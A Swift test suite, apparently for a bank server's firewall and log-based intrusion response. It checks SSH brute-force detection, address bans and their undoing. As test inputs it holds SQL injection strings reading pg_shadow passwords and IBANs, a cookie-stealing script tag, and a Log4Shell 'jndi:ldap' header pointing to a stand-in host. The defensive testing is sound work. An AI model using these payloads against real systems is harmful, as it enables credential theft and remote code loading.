import Foundation
import Postgres
import PostgresServer
import TestSupport
import Testing

@Suite struct `Logs watched while the bank is served` {
    @Test func `an attacker in the logs is shut out at the gateway, told as an incident, and let in again`()
        async throws
    {
        try await ServedBank.run { bank in
            let logs = bank.data + "/watched"
            try FileManager.default.createDirectory(atPath: logs, withIntermediateDirectories: true)
            let suppressions = bank.data + "/suppressions.yml"
            let silence = "- {block: 198.51.100.0/24, until: 2099-01-01, reason: a scanner of the house}\n"
            try silence.write(toFile: suppressions, atomically: true, encoding: .utf8)
            bank.kill(SIGTERM)
            try await bank.start(
                "--watch", logs, "--respond", "--trusted-proxy", "127.0.0.1", "--protect", "192.0.2.0/24",
                "--waf", "block", "--waf-log", bank.data + "/waf.jsonl", "--waf-route", "/rest/v1/cartes=detect",
                "--waf-route", "/rest/v1/beneficiaires=off", "--suppress", suppressions)
            func status(from address: String) async throws -> Int {
                try await bank.request(
                    "GET", "/rest/v1/comptes?select=id&limit=1", headers: ["X-Forwarded-For": address]
                ).status
            }
            #expect(try await status(from: "203.0.113.7") == 200)
            try await Self.expectGuarded(bank)
            let text = Self.guesses(from: ["203.0.113.7", "192.0.2.9", "198.51.100.1"])
            let file = URL(filePath: logs + "/auth.log")
            let start = ContinuousClock.now
            try Data(text.utf8).write(to: file)
            for _ in 0..<1500 {
                if try await status(from: "203.0.113.7") == 403 { break }
                try await Task.sleep(for: .milliseconds(20))
            }
            print("from the line to the refusal: \(ContinuousClock.now - start)")
            #expect(try await status(from: "203.0.113.7") == 403)
            #expect(try await status(from: "192.0.2.9") == 200)
            #expect(try await status(from: "198.51.100.1") == 200)
            var incidents = ""
            for _ in 0..<500 where !incidents.contains("ssh-takeover") && !incidents.contains("INC-") {
                incidents = try await bank.request("GET", "/detection/v1/incidents").body
                try await Task.sleep(for: .milliseconds(20))
            }
            #expect(incidents.contains("203.0.113.7") && incidents.contains("critical"), "\(incidents)")
            let database = Database(bank.cluster.configuration(database: "digitalbank_restored"))
            let lines = try await database.one(
                "select count(*) from logs where horodatage > now() - interval '1 hour'", as: Int64.self)
            #expect(lines == 93)
            let kept = try await database.one(
                "select count(*) from evidence.entries where kind in ('detection.incident', 'detection.response')",
                as: Int64.self)
            #expect(kept >= 2)
            try await Self.expectFollowed(bank, database)
            // By hand, from another process: within a second or so.
            let id = try await database.one(
                "select id from detection.responses where target = '203.0.113.7' and ended_at is null", as: Int64.self)
            await database.close()
            let undone = try await Program.run("respond", "undo", "\(id)", "--data-dir", bank.data)
            #expect(undone.status == 0, "\(undone.error)")
            for _ in 0..<500 {
                if try await status(from: "203.0.113.7") == 200 { break }
                try await Task.sleep(for: .milliseconds(20))
            }
            #expect(try await status(from: "203.0.113.7") == 200)
            let planned = try await bank.request(
                "POST", "/detection/v1/responses",
                body: #"{"action": "ban_address", "target": "203.0.113.8", "reason": "by the service"}"#)
            #expect(planned.status == 403 && planned.body.contains("detection_forbidden"), "\(planned.body)")
            let refused = try await Program.run(
                "respond", "do", "ban_address", "10.0.0.1", "--reason", "a mistake", "--data-dir", bank.data)
            #expect(refused.status != 0 && refused.error.contains("bank's own networks"), "\(refused.error)")
        }
    }

    /// Attacks in bodies show in no access log: the guard's own notes lead to the ban.
    private static func expectBannedForBodies(_ bank: ServedBank) async throws {
        let headers = ["X-Forwarded-For": "203.0.113.99"]
        for _ in 0..<6 {
            let answer = try await bank.request(
                "POST", "/rest/v1/messages", body: #"{"texte": "' UNION SELECT iban FROM comptes--"}"#, headers: headers
            )
            #expect(answer.status == 403, "\(answer.body)")
        }
        var last = ""
        for _ in 0..<1500 where !last.contains("address_banned") {
            last = try await bank.request("GET", "/rest/v1/comptes?select=id&limit=1", headers: headers).body
            try await Task.sleep(for: .milliseconds(20))
        }
        #expect(last.contains("address_banned"), "\(last)")
    }

    /// A follower of its own keeps what it would do, and the incident, in the bank's journal.
    private static func expectFollowed(_ bank: ServedBank, _ database: Database) async throws {
        let logs = bank.data + "/elsewhere"
        try FileManager.default.createDirectory(atPath: logs, withIntermediateDirectories: true)
        try guesses(from: ["203.0.113.77"]).write(toFile: logs + "/auth.log", atomically: true, encoding: .utf8)
        let run = try await Program.run(
            "logs", "follow", logs, "--state", bank.data + "/elsewhere.json", "--record", bank.data, "--until-end")
        #expect(run.status == 0, "\(run.error)")
        let planned = try await database.one(
            """
            select count(*) || ' ' || (select count(*) from evidence.entries where kind = 'detection.response_planned')
            from detection.responses where target = '203.0.113.77' and dry_run
            """, as: String.self)
        #expect(planned == "1 1")
        let incidents = try await database.one(
            "select count(*) from detection.incidents where '203.0.113.77' = any (addresses)", as: Int64.self)
        #expect(incidents == 1)
    }

    /// Thirty guesses and a way in, from each address.
    private static func guesses(from addresses: [String]) -> String {
        let form = DateFormatter()
        (form.locale, form.timeZone, form.dateFormat) = (
            Locale(identifier: "en_US_POSIX"), TimeZone(identifier: "Europe/Paris"), "MMM d HH:mm:ss"
        )
        var text = ""
        for address in addresses {
            for second in 0..<30 {
                let time = form.string(from: Date().addingTimeInterval(Double(second) - 60))
                text += "\(time) srv sshd[7]: Failed password for root from \(address) port 4000 ssh2\n"
            }
            let time = form.string(from: Date().addingTimeInterval(-5))
            text += "\(time) srv sshd[7]: Accepted password for root from \(address) port 4000 ssh2\n"
        }
        return text
    }

    /// Attacks in address, body and header are refused, ordinary requests are not, and no payload is kept.
    private static func expectGuarded(_ bank: ServedBank) async throws {
        let attacks: [(String, String, String, [String: String])] = [
            (
                "GET", "/rest/v1/comptes?select=id&type=eq.x'%20union%20select%20usename,passwd%20from%20pg_shadow--",
                "", [:]
            ),
            ("POST", "/rest/v1/rpc/virer", #"{"p_motif": "<script>document.cookie</script>"}"#, [:]),
            ("GET", "/rest/v1/comptes?select=id", "", ["User-Agent": "${jndi:ldap://203.0.113.9/a}"]),
        ]
        for (method, target, body, headers) in attacks {
            let answer = try await bank.request(method, target, body: body, headers: headers)
            #expect(answer.status == 403 && answer.body.contains("request_refused"), "\(target): \(answer.body)")
        }
        for target in [
            "/rest/v1/comptes?select=id,solde_minor&or=(type.eq.courant,type.eq.epargne)&order=id.desc&limit=3",
            "/rest/v1/clients?select=numero,comptes(id)&statut=in.(actif,clos)&limit=1",
        ] {
            let answer = try await bank.request("GET", target)
            #expect(answer.status == 200, "\(target): \(answer.body)")
        }
        var kept = ""
        for _ in 0..<200 where kept.split(separator: "\n").count < attacks.count {
            kept = (try? String(contentsOfFile: bank.data + "/waf.jsonl", encoding: .utf8)) ?? ""
            try await Task.sleep(for: .milliseconds(20))
        }
        #expect(kept.split(separator: "\n").count >= attacks.count, "\(kept)")
        // Not refused, and noted or not, by the path.
        for (path, isNoted) in [("cartes", true), ("beneficiaires", false), ("cartes_x", false)] {
            let attack = "x'%20union%20select%20usename,passwd%20from%20pg_shadow--"
            let target = "/rest/v1/\(path)?select=id&pan_fin=eq.\(attack)"
            let answer = try await bank.request("GET", target)
            let isRefused = answer.body.contains("request_refused")
            #expect(isRefused == (path == "cartes_x"), "\(path): \(answer.status) \(answer.body)")
            for _ in 0..<200 where isNoted && !kept.contains("/rest/v1/\(path)\"") {
                kept = (try? String(contentsOfFile: bank.data + "/waf.jsonl", encoding: .utf8)) ?? ""
                try await Task.sleep(for: .milliseconds(20))
            }
            if path != "cartes_x" { #expect(kept.contains("/rest/v1/\(path)\"") == isNoted, "\(kept)") }
        }
        try await expectBannedForBodies(bank)
        #expect(!kept.contains("pg_shadow") && !kept.contains("document.cookie") && !kept.contains("jndi"), "\(kept)")
    }
}
